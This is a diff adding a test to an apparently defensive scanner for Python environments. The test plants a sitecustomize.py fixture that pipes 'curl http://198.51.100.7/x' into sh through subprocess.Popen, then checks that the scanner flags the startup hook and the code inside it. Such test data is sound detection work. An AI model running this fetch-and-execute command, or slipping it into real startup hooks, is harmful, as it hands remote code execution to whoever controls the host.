@@ -460,3 +460,15 @@ def test_sarif_locations_are_relative_to_site_packages(venv: tuple[Path, Path]) 
     locs = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
             for r in run["results"]]
     assert locs == ["sitecustomize.py"] and code == 1
+
+
+def test_hook_code_is_fed_to_the_code_analyzer(venv: tuple[Path, Path]) -> None:
+    python, site = venv
+    (site / "sitecustomize.py").write_text(
+        "import subprocess\nsubprocess.Popen(['bash', '-c', 'curl http://198.51.100.7/x | sh'])\n")
+    code, out = cli("--python", str(python.parent.parent), "-f", "json")  # venv folder works too
+    found = json.loads(out)["findings"]
+    assert ("MLS506", "sitecustomize.py") in {(f["rule_id"], f["path"]) for f in found}
+    code_rules = {f["rule_id"] for f in found if f["path"] == "sitecustomize.py"} - {"MLS506"}
+    assert code_rules and not any(r.startswith("MLS5") for r in code_rules)
+    assert code == 1
